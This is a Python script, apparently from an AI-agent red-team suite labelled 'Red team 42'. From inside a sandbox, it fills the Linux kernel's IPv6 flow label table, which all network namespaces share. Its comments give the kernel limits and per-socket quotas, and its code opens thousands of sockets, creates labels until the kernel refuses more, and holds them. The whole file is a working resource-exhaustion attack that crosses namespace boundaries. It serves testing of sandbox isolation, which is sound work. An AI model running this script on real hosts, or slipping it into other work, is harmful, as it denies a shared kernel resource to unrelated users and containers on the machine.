#!/usr/bin/python3
# Red team 42: an agent fills the kernel's IPv6 flow label table, which every network namespace
# on the machine shares (net/ipv6/ip6_flowlabel.c: one `fl_size` count, FL_MAX_SIZE 4096; a
# process without CAP_NET_ADMIN may create labels until 3,072 are held, 32 per socket until
# 2,048, one per socket after). Each label is made with IPV6_FLOWLABEL_MGR on an IPv6 TCP socket
# (the default sandbox allows those) and lingers <linger> s after its socket is closed.
# Usage: flowlabel_fill.py <dir> <linger>; writes "held N" to <dir>/fl.log, then holds.
import socket, struct, sys, time
d, linger = sys.argv[1], int(sys.argv[2])
out = open(f"{d}/fl.log", "a", buffering=1)
IPV6_FLOWLABEL_MGR = 32

def req(label):
    # struct in6_flowlabel_req: dst, label, action (GET), share (ANY), flags (CREATE), expires, linger
    return (socket.inet_pton(socket.AF_INET6, "::1") + struct.pack(">I", label) +
            struct.pack("=BBHHHI", 0, 1, 1, 0, linger, 0))

socks, held, refused, lab = [], 0, 0, 0x10000
while refused < 64 and len(socks) < 3500:
    try:
        s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    except OSError:
        break
    socks.append(s)
    first = True
    for _ in range(32):
        lab += 1
        try:
            s.setsockopt(socket.IPPROTO_IPV6, IPV6_FLOWLABEL_MGR, req(lab)); held += 1; first = False
        except OSError:
            if first: refused += 1
            break
out.write(f"held {held} on {len(socks)} sockets\n")
time.sleep(600)
